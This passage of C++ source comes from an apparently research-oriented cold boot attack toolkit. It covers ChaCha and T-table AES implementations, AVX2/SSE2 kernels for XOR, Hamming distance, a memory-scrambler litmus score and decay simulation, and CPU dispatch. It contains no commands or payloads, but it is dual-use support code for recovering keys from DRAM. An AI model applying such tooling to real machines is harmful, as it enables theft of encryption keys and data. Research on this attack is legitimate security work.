                col[3] = gfTables().mul(a0, 11) ^ gfTables().mul(a1, 13) ^
                         gfTables().mul(a2, 9) ^ gfTables().mul(a3, 14);
            }
        }
        std::memcpy(s, t, 16);
    }
    std::memcpy(out, s, 16);
}

} // namespace coldboot::crypto
