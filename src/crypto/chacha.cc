#include "crypto/chacha.hh"

#include "common/bits.hh"
#include "common/logging.hh"

namespace coldboot::crypto
{

namespace
{

inline void
quarterRound(uint32_t &a, uint32_t &b, uint32_t &c, uint32_t &d)
{
    a += b; d ^= a; d = rotl32(d, 16);
    c += d; b ^= c; b = rotl32(b, 12);
    a += b; d ^= a; d = rotl32(d, 8);
    c += d; b ^= c; b = rotl32(b, 7);
}

} // anonymous namespace

ChaCha::ChaCha(std::span<const uint8_t> key,
               std::span<const uint8_t> nonce, int rounds)
    : nrounds(rounds)
{
    if (key.size() != 32)
        cb_fatal("ChaCha key must be 32 bytes, got %zu", key.size());
    if (nonce.size() != 8)
        cb_fatal("ChaCha nonce must be 8 bytes, got %zu", nonce.size());
    if (rounds != 8 && rounds != 12 && rounds != 20)
        cb_fatal("ChaCha rounds must be 8, 12 or 20, got %d", rounds);

    for (int i = 0; i < 8; ++i)
        key_words[i] = loadLE32(&key[4 * i]);
    nonce_words[0] = loadLE32(&nonce[0]);
    nonce_words[1] = loadLE32(&nonce[4]);
}

void
ChaCha::keystreamBlock(uint64_t counter,
                       uint8_t out[chachaBlockBytes]) const
{
    // "expand 32-byte k"
    static const uint32_t sigma[4] = {
        0x61707865, 0x3320646e, 0x79622d32, 0x6b206574,
    };

    uint32_t state[16];
    for (int i = 0; i < 4; ++i)
        state[i] = sigma[i];
    for (int i = 0; i < 8; ++i)
        state[4 + i] = key_words[i];
    state[12] = static_cast<uint32_t>(counter);
    state[13] = static_cast<uint32_t>(counter >> 32);
    state[14] = nonce_words[0];
    state[15] = nonce_words[1];

    uint32_t x[16];
    for (int i = 0; i < 16; ++i)
        x[i] = state[i];

    for (int i = 0; i < nrounds; i += 2) {
        // Column round.
        quarterRound(x[0], x[4], x[8], x[12]);
        quarterRound(x[1], x[5], x[9], x[13]);
        quarterRound(x[2], x[6], x[10], x[14]);
        quarterRound(x[3], x[7], x[11], x[15]);
        // Diagonal round.
        quarterRound(x[0], x[5], x[10], x[15]);
        quarterRound(x[1], x[6], x[11], x[12]);
        quarterRound(x[2], x[7], x[8], x[13]);
        quarterRound(x[3], x[4], x[9], x[14]);
    }

    for (int i = 0; i < 16; ++i)
        storeLE32(&out[4 * i], x[i] + state[i]);
}

void
ChaCha::crypt(uint64_t counter0, std::span<const uint8_t> in,
              std::span<uint8_t> out) const
{
    cb_assert(in.size() == out.size(),
              "ChaCha::crypt: in/out length mismatch %zu vs %zu",
              in.size(), out.size());
    uint8_t ks[chachaBlockBytes];
    for (size_t off = 0; off < in.size(); off += chachaBlockBytes) {
        keystreamBlock(counter0 + off / chachaBlockBytes, ks);
        size_t n = std::min(chachaBlockBytes, in.size() - off);
        for (size_t i = 0; i < n; ++i)
            out[off + i] = in[off + i] ^ ks[i];
    }
}

} // namespace coldboot::crypto
