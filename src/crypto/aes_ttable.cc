#include "crypto/aes_ttable.hh"

#include <array>
#include <bit>

namespace coldboot::crypto
{

namespace
{

/**
 * The four round tables, derived from the S-box (via aesSbox(), so
 * the GF(2^8) ground truth lives in exactly one place). For byte x:
 *   T0[x] = (2*S[x], S[x], S[x], 3*S[x])  packed big-endian,
 * and T1..T3 are byte rotations of T0.
 */
struct TTables
{
    std::array<uint32_t, 256> t0, t1, t2, t3;

    TTables()
    {
        auto xtime = [](uint8_t v) {
            return static_cast<uint8_t>(
                (v << 1) ^ ((v & 0x80) ? 0x1b : 0));
        };
        for (int x = 0; x < 256; ++x) {
            uint8_t s = aesSbox(static_cast<uint8_t>(x));
            uint8_t s2 = xtime(s);
            uint8_t s3 = static_cast<uint8_t>(s2 ^ s);
            uint32_t w = (static_cast<uint32_t>(s2) << 24) |
                         (static_cast<uint32_t>(s) << 16) |
                         (static_cast<uint32_t>(s) << 8) |
                         static_cast<uint32_t>(s3);
            t0[x] = w;
            t1[x] = std::rotr(w, 8);
            t2[x] = std::rotr(w, 16);
            t3[x] = std::rotr(w, 24);
        }
    }
};

/** Meyers singleton: built on first use (see gfTables() in aes.cc). */
const TTables &
ttables()
{
    static const TTables tables;
    return tables;
}

} // anonymous namespace

FastAes::FastAes(std::span<const uint8_t> key)
    : size(static_cast<AesKeySize>(key.size())),
      sched(aesExpandKey(key))
{
}

void
FastAes::encryptBlock(const uint8_t in[aesBlockBytes],
                      uint8_t out[aesBlockBytes]) const
{
    const uint8_t *rk = sched.data();
    uint32_t c0 = aesWordFromBytes(in) ^ aesWordFromBytes(rk);
    uint32_t c1 = aesWordFromBytes(in + 4) ^ aesWordFromBytes(rk + 4);
    uint32_t c2 = aesWordFromBytes(in + 8) ^ aesWordFromBytes(rk + 8);
    uint32_t c3 =
        aesWordFromBytes(in + 12) ^ aesWordFromBytes(rk + 12);

    const TTables &t = ttables();
    int nr = aesRounds(size);
    for (int round = 1; round < nr; ++round) {
        rk = sched.data() + 16 * round;
        uint32_t n0 = t.t0[c0 >> 24] ^ t.t1[(c1 >> 16) & 0xff] ^
                      t.t2[(c2 >> 8) & 0xff] ^ t.t3[c3 & 0xff] ^
                      aesWordFromBytes(rk);
        uint32_t n1 = t.t0[c1 >> 24] ^ t.t1[(c2 >> 16) & 0xff] ^
                      t.t2[(c3 >> 8) & 0xff] ^ t.t3[c0 & 0xff] ^
                      aesWordFromBytes(rk + 4);
        uint32_t n2 = t.t0[c2 >> 24] ^ t.t1[(c3 >> 16) & 0xff] ^
                      t.t2[(c0 >> 8) & 0xff] ^ t.t3[c1 & 0xff] ^
                      aesWordFromBytes(rk + 8);
        uint32_t n3 = t.t0[c3 >> 24] ^ t.t1[(c0 >> 16) & 0xff] ^
                      t.t2[(c1 >> 8) & 0xff] ^ t.t3[c2 & 0xff] ^
                      aesWordFromBytes(rk + 12);
        c0 = n0;
        c1 = n1;
        c2 = n2;
        c3 = n3;
    }

    // Final round: SubBytes + ShiftRows + AddRoundKey, no MixColumns.
    rk = sched.data() + 16 * nr;
    auto sb = [](uint32_t w, int shift) {
        return static_cast<uint32_t>(
                   aesSbox(static_cast<uint8_t>(w >> shift)))
               << shift;
    };
    uint32_t f0 = (sb(c0, 24) | sb(c1, 16) | sb(c2, 8) | sb(c3, 0)) ^
                  aesWordFromBytes(rk);
    uint32_t f1 = (sb(c1, 24) | sb(c2, 16) | sb(c3, 8) | sb(c0, 0)) ^
                  aesWordFromBytes(rk + 4);
    uint32_t f2 = (sb(c2, 24) | sb(c3, 16) | sb(c0, 8) | sb(c1, 0)) ^
                  aesWordFromBytes(rk + 8);
    uint32_t f3 = (sb(c3, 24) | sb(c0, 16) | sb(c1, 8) | sb(c2, 0)) ^
                  aesWordFromBytes(rk + 12);

    aesBytesFromWord(f0, out);
    aesBytesFromWord(f1, out + 4);
    aesBytesFromWord(f2, out + 8);
    aesBytesFromWord(f3, out + 12);
}

} // namespace coldboot::crypto
