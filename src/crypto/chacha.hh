/**
 * @file
 * ChaCha stream cipher (Bernstein 2008) with a configurable round
 * count covering the ChaCha8 / ChaCha12 / ChaCha20 variants the paper
 * evaluates as scrambler replacements.
 *
 * ChaCha is a natural fit for the memory-encryption application: one
 * block invocation produces exactly 64 bytes of keystream — one DRAM
 * cache line — from (key, nonce, block counter), so the physical
 * address can serve directly as the counter and keystream generation
 * is independent of the data being read.
 */

#ifndef COLDBOOT_CRYPTO_CHACHA_HH
#define COLDBOOT_CRYPTO_CHACHA_HH

#include <array>
#include <cstdint>
#include <span>

namespace coldboot::crypto
{

/** ChaCha produces 64-byte keystream blocks. */
constexpr size_t chachaBlockBytes = 64;

/**
 * ChaCha keystream generator.
 */
// coldboot-lint: allow(wipe-coverage) -- simulated scrambler state on the hot path; keys are synthetic
class ChaCha
{
  public:
    /**
     * @param key    32-byte key.
     * @param nonce  8-byte nonce (original ChaCha layout with a 64-bit
     *               counter and 64-bit nonce).
     * @param rounds Total double-round-pair count: 8, 12 or 20.
     */
    ChaCha(std::span<const uint8_t> key, std::span<const uint8_t> nonce,
           int rounds);

    /**
     * Generate the 64-byte keystream block for @p counter.
     */
    void keystreamBlock(uint64_t counter,
                        uint8_t out[chachaBlockBytes]) const;

    /**
     * XOR a byte range with the keystream starting at block
     * @p counter0, offset 0 (encrypt == decrypt).
     */
    void crypt(uint64_t counter0, std::span<const uint8_t> in,
               std::span<uint8_t> out) const;

    /** Round count (8, 12 or 20). */
    int rounds() const { return nrounds; }

  private:
    std::array<uint32_t, 8> key_words;
    std::array<uint32_t, 2> nonce_words;
    int nrounds;
};

} // namespace coldboot::crypto

#endif // COLDBOOT_CRYPTO_CHACHA_HH
