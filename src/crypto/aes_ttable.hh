/**
 * @file
 * T-table AES encryption - the portable fast path.
 *
 * The paper's attack implementation leans on AES-NI for fast key
 * expansion and block encryption. This library has no hardware AES;
 * the classic 4x1KiB T-table formulation (each table fuses SubBytes,
 * ShiftRows and MixColumns for one byte position) is the standard
 * software substitute, several times faster than the byte-oriented
 * reference in aes.cc. Tests cross-validate the two bit-for-bit; the
 * CTR keystream path (memory encryption, XTS data path) uses this
 * implementation.
 *
 * Encryption only: the cold boot tooling never needs fast inverse
 * rounds (XTS decryption of recovered volumes is not hot).
 */

#ifndef COLDBOOT_CRYPTO_AES_TTABLE_HH
#define COLDBOOT_CRYPTO_AES_TTABLE_HH

#include <cstdint>
#include <span>
#include <vector>

#include "crypto/aes.hh"

namespace coldboot::crypto
{

/**
 * AES-128/192/256 block encryption via T-tables.
 */
class FastAes
{
  public:
    /** @param key 16-, 24- or 32-byte key. */
    explicit FastAes(std::span<const uint8_t> key);

    /** Encrypt one 16-byte block (in and out may alias). */
    void encryptBlock(const uint8_t in[aesBlockBytes],
                      uint8_t out[aesBlockBytes]) const;

    /** Key size. */
    AesKeySize keySize() const { return size; }

    /** Expanded schedule (identical to Aes::schedule()). */
    std::span<const uint8_t> schedule() const
    {
        return {sched.data(), sched.size()};
    }

  private:
    AesKeySize size;
    std::vector<uint8_t> sched;
};

} // namespace coldboot::crypto

#endif // COLDBOOT_CRYPTO_AES_TTABLE_HH
