/**
 * @file
 * AVX2 kernels: 32-byte vector XOR sweeps, the Mula nibble-LUT
 * popcount (vpshufb against a 0..4 table, accumulated with vpsadbw)
 * and a fully vectorized scrambler-litmus row score. Tails shorter
 * than one vector delegate to the scalar reference, so no kernel
 * ever reads past the logical length.
 *
 * The TU is compiled with -mavx2 when the toolchain supports it;
 * without that flag __AVX2__ is undefined and the accessor degrades
 * to nullptr, keeping the dispatcher free of build-system knowledge.
 */

#include "simd/kernels.hh"

#if defined(__AVX2__)

#include <immintrin.h>

namespace coldboot::simd::detail
{

namespace
{

/** Per-byte popcount via the nibble LUT (Mula). */
inline __m256i
popcountBytes(__m256i v)
{
    const __m256i lut = _mm256_setr_epi8(
        0, 1, 1, 2, 1, 2, 2, 3, 1, 2, 2, 3, 2, 3, 3, 4,
        0, 1, 1, 2, 1, 2, 2, 3, 1, 2, 2, 3, 2, 3, 3, 4);
    const __m256i low = _mm256_set1_epi8(0x0f);
    __m256i lo = _mm256_and_si256(v, low);
    __m256i hi = _mm256_and_si256(_mm256_srli_epi16(v, 4), low);
    return _mm256_add_epi8(_mm256_shuffle_epi8(lut, lo),
                           _mm256_shuffle_epi8(lut, hi));
}

/** Horizontal sum of the four 64-bit lanes of a vpsadbw accumulator. */
inline uint64_t
horizontalSum(__m256i acc)
{
    __m128i s = _mm_add_epi64(_mm256_castsi256_si128(acc),
                              _mm256_extracti128_si256(acc, 1));
    return static_cast<uint64_t>(_mm_cvtsi128_si64(s)) +
           static_cast<uint64_t>(_mm_cvtsi128_si64(
               _mm_unpackhi_epi64(s, s)));
}

inline __m256i
load(const uint8_t *p)
{
    return _mm256_loadu_si256(reinterpret_cast<const __m256i *>(p));
}

inline void
store(uint8_t *p, __m256i v)
{
    _mm256_storeu_si256(reinterpret_cast<__m256i *>(p), v);
}

void
avx2XorBytes(uint8_t *dst, const uint8_t *src, size_t n)
{
    size_t i = 0;
    for (; i + 64 <= n; i += 64) {
        store(dst + i, _mm256_xor_si256(load(dst + i), load(src + i)));
        store(dst + i + 32, _mm256_xor_si256(load(dst + i + 32),
                                             load(src + i + 32)));
    }
    for (; i + 32 <= n; i += 32)
        store(dst + i, _mm256_xor_si256(load(dst + i), load(src + i)));
    scalarKernels().xor_bytes(dst + i, src + i, n - i);
}

void
avx2XorInto(uint8_t *out, const uint8_t *a, const uint8_t *b,
            size_t n)
{
    size_t i = 0;
    for (; i + 32 <= n; i += 32)
        store(out + i, _mm256_xor_si256(load(a + i), load(b + i)));
    scalarKernels().xor_into(out + i, a + i, b + i, n - i);
}

void
avx2XorRepeatKey64(uint8_t *dst, const uint8_t *key, size_t n)
{
    const __m256i k0 = load(key);
    const __m256i k1 = load(key + 32);
    size_t i = 0;
    for (; i + 64 <= n; i += 64) {
        store(dst + i, _mm256_xor_si256(load(dst + i), k0));
        store(dst + i + 32, _mm256_xor_si256(load(dst + i + 32), k1));
    }
    // i is a multiple of 64, so the key phase restarts cleanly.
    scalarKernels().xor_repeat_key64(dst + i, key, n - i);
}

size_t
avx2HammingDistance(const uint8_t *a, const uint8_t *b, size_t n)
{
    const __m256i zero = _mm256_setzero_si256();
    __m256i acc = zero;
    size_t i = 0;
    // Up to 4 blocks of 64 bytes per vpsadbw: per-byte counts reach
    // at most 8 * 8 = 64, well inside uint8.
    for (; i + 256 <= n; i += 256) {
        __m256i counts = zero;
        for (unsigned v = 0; v < 256; v += 32)
            counts = _mm256_add_epi8(
                counts, popcountBytes(_mm256_xor_si256(
                            load(a + i + v), load(b + i + v))));
        acc = _mm256_add_epi64(acc, _mm256_sad_epu8(counts, zero));
    }
    for (; i + 32 <= n; i += 32) {
        __m256i counts = popcountBytes(
            _mm256_xor_si256(load(a + i), load(b + i)));
        acc = _mm256_add_epi64(acc, _mm256_sad_epu8(counts, zero));
    }
    size_t dist = horizontalSum(acc);
    return dist + scalarKernels().hamming_distance(a + i, b + i,
                                                   n - i);
}

size_t
avx2HammingBounded(const uint8_t *a, const uint8_t *b, size_t n,
                   size_t limit)
{
    // Early exit at page granularity: the exact distance is returned
    // whenever it is <= limit, so the result is backend-independent.
    constexpr size_t kChunk = 4096;
    size_t dist = 0;
    size_t i = 0;
    for (; i < n; i += kChunk) {
        size_t len = n - i < kChunk ? n - i : kChunk;
        dist += avx2HammingDistance(a + i, b + i, len);
        if (dist > limit)
            return limit + 1;
    }
    return dist;
}

size_t
avx2HammingWeight(const uint8_t *p, size_t n)
{
    const __m256i zero = _mm256_setzero_si256();
    __m256i acc = zero;
    size_t i = 0;
    for (; i + 256 <= n; i += 256) {
        __m256i counts = zero;
        for (unsigned v = 0; v < 256; v += 32)
            counts = _mm256_add_epi8(counts,
                                     popcountBytes(load(p + i + v)));
        acc = _mm256_add_epi64(acc, _mm256_sad_epu8(counts, zero));
    }
    for (; i + 32 <= n; i += 32) {
        acc = _mm256_add_epi64(
            acc, _mm256_sad_epu8(popcountBytes(load(p + i)), zero));
    }
    size_t weight = horizontalSum(acc);
    return weight + scalarKernels().hamming_weight(p + i, n - i);
}

size_t
avx2MaskedMismatch(const uint8_t *a, const uint8_t *b,
                   const uint8_t *mask, size_t n)
{
    const __m256i zero = _mm256_setzero_si256();
    __m256i acc = zero;
    size_t i = 0;
    for (; i + 32 <= n; i += 32) {
        __m256i mism = _mm256_and_si256(
            _mm256_xor_si256(load(a + i), load(b + i)),
            load(mask + i));
        acc = _mm256_add_epi64(acc,
                               _mm256_sad_epu8(popcountBytes(mism),
                                               zero));
    }
    size_t count = horizontalSum(acc);
    return count + scalarKernels().masked_mismatch(a + i, b + i,
                                                   mask + i, n - i);
}

bool
avx2IsConstant(const uint8_t *p, size_t n)
{
    if (n == 0)
        return true;
    const __m256i ref = _mm256_set1_epi8(static_cast<char>(p[0]));
    size_t i = 0;
    for (; i + 32 <= n; i += 32) {
        __m256i eq = _mm256_cmpeq_epi8(load(p + i), ref);
        if (_mm256_movemask_epi8(eq) != -1)
            return false;
    }
    for (; i < n; ++i)
        if (p[i] != p[0])
            return false;
    return true;
}

unsigned
avx2ScramblerLitmusScore64(const uint8_t *block)
{
    // Vector form of the m-trick (see kernels_sse2.cc for the
    // derivation): fold the two 64-bit halves of each 16-byte row
    // into m, then build the packed four-equation word per row with
    // two vpshufb lane picks. The high 8 bytes of each 128-bit lane
    // are zeroed by the shuffle (index 0x80), so they add nothing to
    // the popcount.
    const __m256i ctrl_a = _mm256_setr_epi8(
        2, 3, 0, 1, 0, 1, 0, 1, -128, -128, -128, -128, -128, -128,
        -128, -128, 2, 3, 0, 1, 0, 1, 0, 1, -128, -128, -128, -128,
        -128, -128, -128, -128);
    const __m256i ctrl_b = _mm256_setr_epi8(
        4, 5, 6, 7, 4, 5, 2, 3, -128, -128, -128, -128, -128, -128,
        -128, -128, 4, 5, 6, 7, 4, 5, 2, 3, -128, -128, -128, -128,
        -128, -128, -128, -128);
    const __m256i zero = _mm256_setzero_si256();

    __m256i counts = zero;
    for (unsigned half = 0; half < 64; half += 32) {
        __m256i v = load(block + half);
        // Each 128-bit lane is one row; xor its 64-bit halves so the
        // low 8 bytes hold m = lo64 ^ hi64 (lanes m0..m3).
        __m256i m = _mm256_xor_si256(
            v, _mm256_shuffle_epi32(v, _MM_SHUFFLE(1, 0, 3, 2)));
        // packed = [m1^m2, m0^m3, m0^m2, m0^m1] as 16-bit lanes.
        __m256i packed = _mm256_xor_si256(
            _mm256_shuffle_epi8(m, ctrl_a),
            _mm256_shuffle_epi8(m, ctrl_b));
        counts = _mm256_add_epi8(counts, popcountBytes(packed));
    }
    return static_cast<unsigned>(
        horizontalSum(_mm256_sad_epu8(counts, zero)));
}

uint64_t
avx2DecayApplyGround(uint8_t *data, const uint8_t *ground, size_t n)
{
    const __m256i zero = _mm256_setzero_si256();
    __m256i acc = zero;
    size_t i = 0;
    for (; i + 32 <= n; i += 32) {
        __m256i d = load(data + i);
        __m256i g = load(ground + i);
        acc = _mm256_add_epi64(
            acc, _mm256_sad_epu8(
                     popcountBytes(_mm256_xor_si256(d, g)), zero));
        store(data + i, g);
    }
    uint64_t flips = horizontalSum(acc);
    return flips + scalarKernels().decay_apply_ground(
                       data + i, ground + i, n - i);
}

constexpr Kernels avx2_table = {
    avx2XorBytes,       avx2XorInto,
    avx2XorRepeatKey64, avx2HammingDistance,
    avx2HammingBounded, avx2HammingWeight,
    avx2MaskedMismatch, avx2IsConstant,
    avx2ScramblerLitmusScore64, avx2DecayApplyGround,
};

} // anonymous namespace

const Kernels *
avx2Kernels()
{
    return &avx2_table;
}

} // namespace coldboot::simd::detail

#else // !__AVX2__

namespace coldboot::simd::detail
{

const Kernels *
avx2Kernels()
{
    return nullptr;
}

} // namespace coldboot::simd::detail

#endif
