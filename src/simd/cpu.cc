/**
 * @file
 * CPUID probing for the kernel dispatcher. Kept in its own
 * translation unit so the per-ISA kernel files stay pure kernel
 * code and non-x86 ports only have to revisit this switch.
 */

#include "simd/kernels.hh"

namespace coldboot::simd::detail
{

bool
cpuSupports(Backend b)
{
    switch (b) {
    case Backend::Scalar:
        return true;
#if defined(__x86_64__) || defined(__i386__)
    case Backend::Sse2:
        return __builtin_cpu_supports("sse2") != 0;
    case Backend::Avx2:
        return __builtin_cpu_supports("avx2") != 0;
#else
    // NEON seam: an aarch64 port reports Backend::Neon support here
    // (NEON is architectural on AArch64, so a plain `return true`).
    case Backend::Sse2:
    case Backend::Avx2:
        return false;
#endif
    }
    return false;
}

} // namespace coldboot::simd::detail
