/**
 * @file
 * Internal seams between the dispatcher (simd.cc) and the per-ISA
 * kernel translation units. Each backend TU exposes one accessor
 * returning its table, or nullptr when the backend is not compiled
 * for this target (the accessor itself always links, so the
 * dispatcher needs no preprocessor knowledge of the target).
 */

#ifndef COLDBOOT_SIMD_KERNELS_HH
#define COLDBOOT_SIMD_KERNELS_HH

#include "simd/simd.hh"

namespace coldboot::simd::detail
{

/** The reference implementation; always available. */
const Kernels &scalarKernels();

/** SSE2 table, or nullptr on non-x86 builds (kernels_sse2.cc). */
const Kernels *sse2Kernels();

/** AVX2 table, or nullptr when not compiled (kernels_avx2.cc). */
const Kernels *avx2Kernels();

// NEON seam: an aarch64 port declares `const Kernels *neonKernels();`
// here and adds a kernels_neon.cc TU; backendTable() in simd.cc then
// maps Backend::Neon to it.

/** True when this CPU can execute the backend's instructions. */
bool cpuSupports(Backend b);

} // namespace coldboot::simd::detail

#endif // COLDBOOT_SIMD_KERNELS_HH
