/**
 * @file
 * SSE2 kernels: 16-byte vector XOR sweeps plus an in-register SWAR
 * popcount (pshufb does not exist at this ISA level, so the nibble
 * LUT of the AVX2 backend is replaced by the classic bit-slicing
 * reduction finished with psadbw). Tails shorter than one vector
 * delegate to the scalar reference, so no kernel ever reads past
 * the logical length.
 */

#include "simd/kernels.hh"

#if defined(__x86_64__) || defined(__i386__)

#include <emmintrin.h>

#include <bit>
#include <cstring>

namespace coldboot::simd::detail
{

namespace
{

inline uint64_t
load64(const uint8_t *p)
{
    uint64_t v;
    std::memcpy(&v, p, 8);
    return v;
}

/** Per-byte popcount of a vector (bit-slicing SWAR). */
inline __m128i
popcountBytes(__m128i v)
{
    const __m128i m1 = _mm_set1_epi8(0x55);
    const __m128i m2 = _mm_set1_epi8(0x33);
    const __m128i m4 = _mm_set1_epi8(0x0f);
    v = _mm_sub_epi8(v, _mm_and_si128(_mm_srli_epi16(v, 1), m1));
    v = _mm_add_epi8(_mm_and_si128(v, m2),
                     _mm_and_si128(_mm_srli_epi16(v, 2), m2));
    v = _mm_and_si128(_mm_add_epi8(v, _mm_srli_epi16(v, 4)), m4);
    return v;
}

/** Horizontal sum of the two 64-bit lanes of a psadbw accumulator. */
inline uint64_t
horizontalSum(__m128i acc)
{
    return static_cast<uint64_t>(_mm_cvtsi128_si64(acc)) +
           static_cast<uint64_t>(_mm_cvtsi128_si64(
               _mm_unpackhi_epi64(acc, acc)));
}

void
sse2XorBytes(uint8_t *dst, const uint8_t *src, size_t n)
{
    size_t i = 0;
    for (; i + 64 <= n; i += 64) {
        for (unsigned v = 0; v < 64; v += 16) {
            __m128i d = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(dst + i + v));
            __m128i s = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(src + i + v));
            _mm_storeu_si128(reinterpret_cast<__m128i *>(dst + i + v),
                             _mm_xor_si128(d, s));
        }
    }
    for (; i + 16 <= n; i += 16) {
        __m128i d = _mm_loadu_si128(
            reinterpret_cast<const __m128i *>(dst + i));
        __m128i s = _mm_loadu_si128(
            reinterpret_cast<const __m128i *>(src + i));
        _mm_storeu_si128(reinterpret_cast<__m128i *>(dst + i),
                         _mm_xor_si128(d, s));
    }
    scalarKernels().xor_bytes(dst + i, src + i, n - i);
}

void
sse2XorInto(uint8_t *out, const uint8_t *a, const uint8_t *b,
            size_t n)
{
    size_t i = 0;
    for (; i + 16 <= n; i += 16) {
        __m128i x = _mm_loadu_si128(
            reinterpret_cast<const __m128i *>(a + i));
        __m128i y = _mm_loadu_si128(
            reinterpret_cast<const __m128i *>(b + i));
        _mm_storeu_si128(reinterpret_cast<__m128i *>(out + i),
                         _mm_xor_si128(x, y));
    }
    scalarKernels().xor_into(out + i, a + i, b + i, n - i);
}

void
sse2XorRepeatKey64(uint8_t *dst, const uint8_t *key, size_t n)
{
    __m128i k[4];
    for (unsigned v = 0; v < 4; ++v)
        k[v] = _mm_loadu_si128(
            reinterpret_cast<const __m128i *>(key + 16 * v));
    size_t i = 0;
    for (; i + 64 <= n; i += 64) {
        for (unsigned v = 0; v < 4; ++v) {
            __m128i d = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(dst + i + 16 * v));
            _mm_storeu_si128(
                reinterpret_cast<__m128i *>(dst + i + 16 * v),
                _mm_xor_si128(d, k[v]));
        }
    }
    // i is a multiple of 64, so the key phase restarts cleanly.
    scalarKernels().xor_repeat_key64(dst + i, key, n - i);
}

size_t
sse2HammingDistance(const uint8_t *a, const uint8_t *b, size_t n)
{
    const __m128i zero = _mm_setzero_si128();
    __m128i acc = zero;
    size_t i = 0;
    for (; i + 64 <= n; i += 64) {
        // Four per-byte counts per iteration sum to at most 32 per
        // byte — well inside uint8, so one psadbw per 64 bytes.
        __m128i counts = zero;
        for (unsigned v = 0; v < 64; v += 16) {
            __m128i x = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(a + i + v));
            __m128i y = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(b + i + v));
            counts = _mm_add_epi8(
                counts, popcountBytes(_mm_xor_si128(x, y)));
        }
        acc = _mm_add_epi64(acc, _mm_sad_epu8(counts, zero));
    }
    size_t dist = horizontalSum(acc);
    return dist + scalarKernels().hamming_distance(a + i, b + i,
                                                   n - i);
}

size_t
sse2HammingBounded(const uint8_t *a, const uint8_t *b, size_t n,
                   size_t limit)
{
    // Early exit at page granularity: the exact distance is returned
    // whenever it is <= limit, so the result is backend-independent.
    constexpr size_t kChunk = 4096;
    size_t dist = 0;
    size_t i = 0;
    for (; i < n; i += kChunk) {
        size_t len = n - i < kChunk ? n - i : kChunk;
        dist += sse2HammingDistance(a + i, b + i, len);
        if (dist > limit)
            return limit + 1;
    }
    return dist;
}

size_t
sse2HammingWeight(const uint8_t *p, size_t n)
{
    const __m128i zero = _mm_setzero_si128();
    __m128i acc = zero;
    size_t i = 0;
    for (; i + 64 <= n; i += 64) {
        __m128i counts = zero;
        for (unsigned v = 0; v < 64; v += 16) {
            __m128i x = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(p + i + v));
            counts = _mm_add_epi8(counts, popcountBytes(x));
        }
        acc = _mm_add_epi64(acc, _mm_sad_epu8(counts, zero));
    }
    size_t weight = horizontalSum(acc);
    return weight + scalarKernels().hamming_weight(p + i, n - i);
}

size_t
sse2MaskedMismatch(const uint8_t *a, const uint8_t *b,
                   const uint8_t *mask, size_t n)
{
    const __m128i zero = _mm_setzero_si128();
    __m128i acc = zero;
    size_t i = 0;
    for (; i + 64 <= n; i += 64) {
        __m128i counts = zero;
        for (unsigned v = 0; v < 64; v += 16) {
            __m128i x = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(a + i + v));
            __m128i y = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(b + i + v));
            __m128i m = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(mask + i + v));
            counts = _mm_add_epi8(
                counts, popcountBytes(_mm_and_si128(
                            _mm_xor_si128(x, y), m)));
        }
        acc = _mm_add_epi64(acc, _mm_sad_epu8(counts, zero));
    }
    size_t count = horizontalSum(acc);
    return count + scalarKernels().masked_mismatch(a + i, b + i,
                                                   mask + i, n - i);
}

bool
sse2IsConstant(const uint8_t *p, size_t n)
{
    if (n == 0)
        return true;
    const __m128i ref = _mm_set1_epi8(static_cast<char>(p[0]));
    size_t i = 0;
    for (; i + 16 <= n; i += 16) {
        __m128i x = _mm_loadu_si128(
            reinterpret_cast<const __m128i *>(p + i));
        if (_mm_movemask_epi8(_mm_cmpeq_epi8(x, ref)) != 0xffff)
            return false;
    }
    for (; i < n; ++i)
        if (p[i] != p[0])
            return false;
    return true;
}

unsigned
sse2ScramblerLitmusScore64(const uint8_t *block)
{
    // Folded form of the four byte-pair invariants: with the 16-bit
    // lanes of one 16-byte word as l0..l7 and m_i = l_i ^ l_{i+4},
    // the equations collapse to m1^m2, m0^m3, m0^m2 and m0^m1
    // (differential-tested against the scalar transcription). Packing
    // the four 16-bit results into one word turns each row into a
    // single popcount.
    unsigned errors = 0;
    for (unsigned base = 0; base < 64; base += 16) {
        uint64_t m = load64(block + base) ^ load64(block + base + 8);
        uint64_t m0 = m & 0xffff;
        uint64_t m1 = (m >> 16) & 0xffff;
        uint64_t m2 = (m >> 32) & 0xffff;
        uint64_t m3 = m >> 48;
        uint64_t packed = (m1 ^ m2) | ((m0 ^ m3) << 16) |
                          ((m0 ^ m2) << 32) | ((m0 ^ m1) << 48);
        errors += static_cast<unsigned>(std::popcount(packed));
    }
    return errors;
}

uint64_t
sse2DecayApplyGround(uint8_t *data, const uint8_t *ground, size_t n)
{
    const __m128i zero = _mm_setzero_si128();
    __m128i acc = zero;
    size_t i = 0;
    for (; i + 64 <= n; i += 64) {
        __m128i counts = zero;
        for (unsigned v = 0; v < 64; v += 16) {
            __m128i d = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(data + i + v));
            __m128i g = _mm_loadu_si128(
                reinterpret_cast<const __m128i *>(ground + i + v));
            counts = _mm_add_epi8(
                counts, popcountBytes(_mm_xor_si128(d, g)));
            _mm_storeu_si128(
                reinterpret_cast<__m128i *>(data + i + v), g);
        }
        acc = _mm_add_epi64(acc, _mm_sad_epu8(counts, zero));
    }
    uint64_t flips = horizontalSum(acc);
    return flips + scalarKernels().decay_apply_ground(
                       data + i, ground + i, n - i);
}

constexpr Kernels sse2_table = {
    sse2XorBytes,       sse2XorInto,
    sse2XorRepeatKey64, sse2HammingDistance,
    sse2HammingBounded, sse2HammingWeight,
    sse2MaskedMismatch, sse2IsConstant,
    sse2ScramblerLitmusScore64, sse2DecayApplyGround,
};

} // anonymous namespace

const Kernels *
sse2Kernels()
{
    return &sse2_table;
}

} // namespace coldboot::simd::detail

#else // !x86

namespace coldboot::simd::detail
{

const Kernels *
sse2Kernels()
{
    return nullptr;
}

} // namespace coldboot::simd::detail

#endif
