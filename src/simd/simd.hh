/**
 * @file
 * Runtime-dispatched SIMD kernels for the hot byte sweeps of the
 * attack stack (DESIGN.md §15).
 *
